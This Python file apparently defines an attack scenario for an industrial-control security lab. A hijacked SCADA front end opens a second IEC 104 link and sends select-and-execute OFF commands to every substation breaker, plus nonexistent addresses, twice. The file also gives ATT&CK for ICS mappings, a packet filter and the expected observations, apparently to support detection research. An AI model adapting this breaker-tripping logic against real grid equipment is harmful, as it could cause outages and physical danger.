"""The front end of the control centre, in an attacker's hands, opens every breaker of the switchgear.

ATT&CK for ICS: T0855 unauthorized command message, T0806 brute force I/O, T0831 manipulation of control.
Attack frames: every frame of the IEC 104 connection that the front end opens beside its own. As malware against
substations has done, it starts transfer, interrogates the station, then goes through ten command addresses, three of
which do not exist, with select and execute of a double command OFF, and does so twice. The frames with double commands
(type 46) from the front end are the commands.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

import c104

from lab.clients.scada import switch, telecontrol
from lab.devices import iec104
from lab.plant import address
from lab.process.grid import BREAKERS
from lab.scenario import Scenario

if TYPE_CHECKING:
    from lab.clock import Clock

UNKNOWN = 3
"""Addresses behind the last breaker that are tried too."""


def attack(clock: Clock) -> None:
    """Go through all commands twice."""
    breakers = len(BREAKERS)
    with telecontrol(0) as connection:
        station = connection.get_station(common_address=iec104.COMMON_ADDRESS)
        for index in range(breakers, breakers + UNKNOWN):
            command = iec104.add(station, iec104.COMMAND + index, c104.Type.C_DC_NA_1)
            command.command_mode = c104.CommandMode.SELECT_AND_EXECUTE
        clock.sleep(4.0)
        for _ in range(2):
            for index in range(breakers + UNKNOWN):
                switch(connection, index, close=False)
                clock.sleep(0.8)
            clock.sleep(6.0)


SCENARIO = Scenario(
    name="iec104-breakers",
    title="A second telecontrol link opens all breakers",
    length=150.0,
    techniques=("T0855", "T0806", "T0831"),
    attacker="scada",
    victims=("rtu-grid",),
    begin=60.0,
    behind=2100,
    commands=f"ip.src == {address('scada')} && iec60870_asdu.typeid == 46",
    attack=attack,
    seen="""\
- `10.21.20.31` (front end) opens a second connection to `10.21.20.21` with originator address 0; its own uses 1.
- STARTDT, general interrogation, then double commands OFF on 6001 to 6010, select and execute, twice.
- 6008 to 6010 do not exist: negative confirmations with cause 47 (unknown information object address).
- Both connections report the breakers open (1001 to 1007) and currents and voltages falling to zero.""",
)
